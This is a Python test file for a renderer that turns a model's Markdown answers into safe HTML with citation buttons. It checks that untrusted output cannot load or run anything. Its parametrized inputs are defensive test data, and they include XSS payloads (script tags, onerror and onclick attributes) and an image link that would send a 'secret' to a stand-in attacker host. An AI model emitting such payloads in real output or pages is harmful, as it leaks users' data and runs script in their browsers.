"""A model's Markdown: its shape is kept, nothing of it is trusted."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from tests.ui.tenancy import CITATIONS
from ui.render.prose import citation_button, prose

BUTTONS = {1: Markup("<button>1</button>"), 2: Markup("<button>2</button>")}


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?d=secret)",
        "<img src='https://evil.example/'>",
        "[click](https://evil.example)",
        "<https://evil.example>",
        "[a]: https://evil.example\n\n[a]",
        "<script>alert(1)</script>",
        "```html\n<iframe src=//evil.example></iframe>\n```",
        '``` " onclick=alert(1)\nx\n```',
        "| <b>a</b> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "&lt;img src=x&gt;",
    ],
)
def test_nothing_in_an_answer_can_load_or_run_anything(text: str) -> None:
    shown = prose(text, {})
    tags = set(re.findall(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", shown))
    assert {name for name, _ in tags} <= {"p", "pre", "code", "table", "thead", "tbody", "tr", "th", "td"}
    assert {attributes for _, attributes in tags} <= {""}


@given(st.text())
def test_any_text_can_be_shown(text: str) -> None:
    shown = prose(text, {})
    assert "<script" not in shown
    assert "<img" not in shown


def test_emphasis_lists_and_tables_keep_their_shape() -> None:
    shown = prose("**Two** months:\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n# Title", {})
    for element in ("<strong>Two</strong>", "<li>one</li>", "<td>2</td>", '<p class="heading">Title</p>'):
        assert element in shown


def test_markers_become_buttons_and_lose_the_space_before_them() -> None:
    assert prose("Two months. [1][2] Then", BUTTONS) == "<p>Two months.<button>1</button><button>2</button> Then</p>\n"


def test_a_marker_without_a_citation_stays_as_it_was_written() -> None:
    assert prose("See [7] and `[1]`.", BUTTONS) == "<p>See [7] and <code>[1]</code>.</p>\n"


def test_a_button_says_what_it_opens() -> None:
    shown = citation_button("t", CITATIONS[0], selected=CITATIONS[0].chunk_id)
    assert 'aria-label="Source 1: Lease agreement 2024.pdf, p. 6"' in shown
    assert 'class="fn sel"' in shown
